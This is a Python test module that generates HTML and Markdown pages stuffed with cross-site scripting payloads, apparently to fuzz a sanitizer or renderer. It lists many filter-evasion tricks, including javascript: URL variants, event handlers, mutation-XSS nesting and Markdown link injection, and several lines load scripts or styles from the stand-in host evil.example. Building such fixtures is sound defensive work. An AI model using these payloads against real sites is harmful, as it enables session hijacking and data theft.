"""Pages that try to get a script into what is rendered of them.

After the ideas of the public cheat sheets (OWASP's XSS filter evasion, PortSwigger's, html5sec.org,
DOMPurify's tests): each payload calls `pwn()`, or asks a host for something, if it comes through.
"""

from __future__ import annotations

import random
from collections.abc import Iterator

__all__ = ["HOST", "attack_pages", "attack_texts"]

HOST = "evil.example"
_ADDRESSES = (
    "javascript:pwn()",
    "JaVaScRiPt:pwn()",
    "java\tscript:pwn()",
    "java\nscript:pwn()",
    " \x01javascript:pwn()",
    "&#106;avascript:pwn()",
    "&#x6A;avascript&colon;pwn()",
    "java&Tab;script&NewLine;:pwn()",
    "javascript&#58;pwn()",
    "\u200ejavascript:pwn()",
    "javascript://a.example/%0apwn()",
    "javascript:/*http://a.example/*/pwn()",
    "http://a.example/\"onmouseover=\"pwn()",
    "http://a.example/'onmouseover='pwn()",
    "http://a.example/)<script>pwn()</script>",
    "http://a.example/) ![x](javascript:pwn()",
    "http://a.example/\\)\\](javascript:pwn())",
    "http:javascript:pwn()",
    "http:\\\\javascript:pwn()",
    "vbscript:pwn()",
    "data:text/html,<script>pwn()</script>",
    "data:text/html;base64,PHNjcmlwdD5wd24oKTwvc2NyaXB0Pg==",
    "data:image/svg+xml,<svg onload=pwn()>",
    "blob:http://a.example/x",
    "view-source:javascript:pwn()",
    "feed:javascript:pwn()",
    "jar:javascript:pwn()",
    "mailto:a@a.example?subject=<script>pwn()</script>",
    'mailto:"onclick="pwn()"@a.example',
    "#\"><script>pwn()</script>",
    "//javascript:pwn()",
)  # fmt: skip
_EVENTS = (
    "onclick onload onerror onmouseover onfocus autofocus=1 onanimationstart onbegin ontoggle "
    "onpointerenter onscroll onbeforescriptexecute oncontentvisibilityautostatechange"
).split()
_MARKUP = (
    "<script>pwn()</script>",
    "<ScRiPt >pwn()</ScRiPt>",
    "<script/src=http://evil.example/x.js></script>",
    "<scr<script>ipt>pwn()</scr</script>ipt>",
    "<<script>pwn();//<</script>",
    "<img src=x onerror=pwn()>",
    "<img src=`x` onerror=pwn()>",
    '<img """><script>pwn()</script>">',
    "<img/src='http://evil.example/\"onerror=\"pwn()'>",
    "<svg onload=pwn()>",
    "<svg><script>pwn()</script></svg>",
    "<svg><script>&#112;wn()</script></svg>",
    "<svg><a xlink:href=javascript:pwn()><text x=20 y=20>click</text></a></svg>",
    "<svg><animate attributeName=href values=javascript:pwn() /><a id=x>x</a></svg>",
    "<svg><use href='data:image/svg+xml,<svg id=x onload=pwn()>#x'></svg>",
    "<svg><foreignObject><iframe src=javascript:pwn()></foreignObject></svg>",
    "<svg></p><style><a id='</style><img src=1 onerror=pwn()>'>",
    "<math><mtext><table><mglyph><style><!--</style>"
    "<img title='--&gt;&lt;img src=1 onerror=pwn()&gt;'>",
    "<math><mi xlink:href='data:x,<script>pwn()</script>'>x</mi></math>",
    "<math><annotation-xml encoding=text/html><script>pwn()</script></annotation-xml></math>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=pwn()>",
    "<noscript><p title='</noscript><img src=x onerror=pwn()>'>",
    "<template><script>pwn()</script></template>",
    "<iframe srcdoc='<script>parent.pwn()</script>'></iframe>",
    "<iframe src=javascript:pwn()></iframe>",
    "<object data=javascript:pwn()></object>",
    "<embed src=javascript:pwn()>",
    "<link rel=stylesheet href=http://evil.example/x.css>",
    "<style>@import 'http://evil.example/x.css';</style>",
    "<style>*{background:url(http://evil.example/x)}</style>",
    "<div style='background:url(http://evil.example/x)'>styled</div>",
    "<base href=http://evil.example/>",
    "<meta http-equiv=refresh content='0;url=javascript:pwn()'>",
    "<form action=javascript:pwn()><button formaction=javascript:pwn()>send</button></form>",
    "<input autofocus onfocus=pwn()>",
    "<details open ontoggle=pwn()>x</details>",
    "<video><source onerror=pwn()></video>",
    "<audio src onerror=pwn()></audio>",
    "<body onload=pwn()>",
    "<marquee onstart=pwn()>x</marquee>",
    "<x onclick=pwn() contenteditable>click</x>",
    "<xss style=animation-name:x onanimationstart=pwn()></xss>",
    "<!--><script>pwn()</script>-->",
    "<!-- --!><img src=x onerror=pwn()>",
    "<![CDATA[<script>pwn()</script>]]>",
    "<?xml-stylesheet href=javascript:pwn()?>",
    "<textarea></textarea><script>pwn()</script>",
    "<title><img title='</title><script>pwn()</script>'></title>",
    "<xmp><script>pwn()</script></xmp>",
    "<plaintext><script>pwn()</script>",
    "<pre><code class='language-x\" onclick=\"pwn()'>code</code></pre>",
    "<pre><code class='language-x\n<script>pwn()</script>'>code</code></pre>",
    "<pre>```\n<script>pwn()</script>\n```</pre>",
    "<ol start='1\" onclick=\"pwn()'><li value='2\" onclick=\"pwn()'>one</ol>",
    "<table><tr><td onclick=pwn() style='x:expression(pwn())'>a|<script>pwn()</script>"
    "<td>b</table>",
    "&lt;script&gt;pwn()&lt;/script&gt;",
    "&amp;lt;script&amp;gt;pwn()&amp;lt;/script&amp;gt;",
    "&lt;img src=x onerror=pwn()&gt;",
    "\uff1cscript\uff1epwn()\uff1c/script\uff1e",
    "+ADw-script+AD4-pwn()+ADw-/script+AD4-",
)
#: Text that is an attack once it is Markdown.
_MARKDOWN = (
    "[click](javascript:pwn())",
    "[click](<javascript:pwn()>)",
    "[click](java&#115;cript:pwn())",
    "[click][x] [x]: javascript:pwn()",
    "[x]: javascript:pwn()",
    "<javascript:pwn()>",
    "![x](x\" onerror=\"pwn())",
    "![x](http://evil.example/x.png)",
    "[a](http://a.example/\"onclick=\"pwn())",
    "`<script>pwn()</script>`",
    "``<script>pwn()</script>`",
    "```\n</code></pre><script>pwn()</script>\n```",
    "    <script>pwn()</script>",
    "\\<script>pwn()\\</script>",
    "\\\\<script>pwn()</script>",
    "<a href=javascript:pwn()>x</a>",
    "- <img src=x onerror=pwn()>",
    "> <script>pwn()</script>",
    "# <script>pwn()</script>",
    "| <script>pwn()</script> | b |\n| --- | --- |\n| <img src=x onerror=pwn()> | d |",
    "a\\\n<script>pwn()</script>",
    "<!-- --> <script>pwn()</script>",
    "<script\n>pwn()</script\n>",
    "&#60;script&#62;pwn()&#60;/script&#62;",
    "*<script>*pwn()*</script>*",
    "_<_script>pwn()_</_script>",
    "[a](http://a.example \"<script>pwn()</script>\")",
    "http://a.example/<script>pwn()</script>",
)  # fmt: skip
_WRAPPERS = (
    "{}",
    "<p>{}</p>",
    "<div><p>before {} after</p></div>",
    "<ul><li>{}<li>two</ul>",
    "<blockquote>{}</blockquote>",
    "<table><tr><th>{}<td>b<tr><td>c<td>{}</table>",
    "<pre>{}</pre>",
    "<p><code>{}</code></p>",
    "<h2>{}</h2>",
    "<p><b>{}</b><i>{}</i></p>",
    "<figure><img src=a.png alt='{}'><figcaption>{}</figcaption></figure>",
    "<dl><dt>{}<dd>{}</dl>",
    "<p><a href='http://a.example/'>{}</a></p>",
    "<svg>{}</svg>",
    "<math>{}</math>",
    "<template shadowrootmode=open>{}</template>",
    "<!-- {} -->",
    "<p title='{}'>text</p>",
    "<p>line<br>{}<br>line</p>",
)
_USES = (
    '<a href="{}">link</a>',
    "<a href='{}'>link</a>",
    "<a href={}>link</a>",
    '<a href="{}"><b>bold</b> link</a>',
    '<img src="{}" alt="picture">',
    '<img data-src="{}" alt="picture">',
    '<img srcset="{} 2x" alt="picture">',
    '<amp-img src="{}"></amp-img>',
    '<link rel=canonical href="{}">',
    '<base href="{}"><a href="x">relative</a>',
    '<p><a href="{}">a](javascript:pwn())</a></p>',
    '<a href="{}" {}=pwn()>both</a>',
)


def attack_pages(count: int, seed: int = 20) -> Iterator[str]:
    """Pages of some attacks each; every payload and every address comes again and again."""
    chance = random.Random(seed)
    for number in range(count):
        pieces = [_piece(chance, number + place) for place in range(5)]
        yield f"<!doctype html><html><body><article>{''.join(pieces)}</article></body></html>"


def attack_texts(count: int, seed: int = 21) -> Iterator[str]:
    """Flattened texts of some attacks each."""
    chance = random.Random(seed)
    for number in range(count):
        lines = [_MARKDOWN[number % len(_MARKDOWN)]]
        lines += chance.choices(_MARKDOWN, k=3) + chance.choices(_MARKUP, k=2)
        yield "\n\n".join(_spoilt(chance, line) for line in lines)


def _piece(chance: random.Random, number: int) -> str:
    kind = number % 3
    if kind == 0:
        payload = chance.choice(_MARKUP)
    elif kind == 1:
        address = chance.choice(_ADDRESSES)
        payload = chance.choice(_USES).format(address, chance.choice(_EVENTS))
    else:
        payload = chance.choice(_MARKDOWN)
        payload = payload.replace("<", "&lt;") if chance.random() < 0.7 else payload
    return chance.choice(_WRAPPERS).replace("{}", _spoilt(chance, payload))


def _spoilt(chance: random.Random, text: str) -> str:
    """The text as it is, or with a small change that parsers may stumble over."""
    how = chance.randrange(8)
    at = chance.randrange(len(text) + 1)
    if how == 0:
        return text[:at] + chance.choice("\x00\t\n\r\x0c /\\\"'<>`=&;!-\u2028\ufeff") + text[at:]
    if how == 1:
        return text[:at] + text[at + 1 :]
    if how == 2:
        return text.swapcase()
    if how == 3:
        return text + chance.choice(("\\", "`", "<", "&", "](", "-->", "</p>", "|"))
    return text
